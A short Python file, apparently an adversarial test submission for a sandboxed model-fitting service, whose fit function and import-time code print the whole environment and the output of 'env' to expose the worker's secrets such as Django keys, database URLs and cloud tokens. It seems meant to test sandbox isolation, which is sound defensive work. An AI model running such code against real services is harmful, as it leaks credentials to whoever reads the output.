# Attack: dump the environment, hoping the worker's secrets (Django key, database URL, cloud tokens)
# were passed on to the sandbox.
import os
import subprocess


def fit(x, y, *, seed, max_seconds):
    print(f"ENVIRON {dict(os.environ)}")
    print(f"ENV COMMAND {subprocess.run(['env'], capture_output=True, text=True).stdout!r}")
    raise RuntimeError("this submission only dumps the environment")


print(f"ENVIRON AT IMPORT {sorted(os.environ)}")
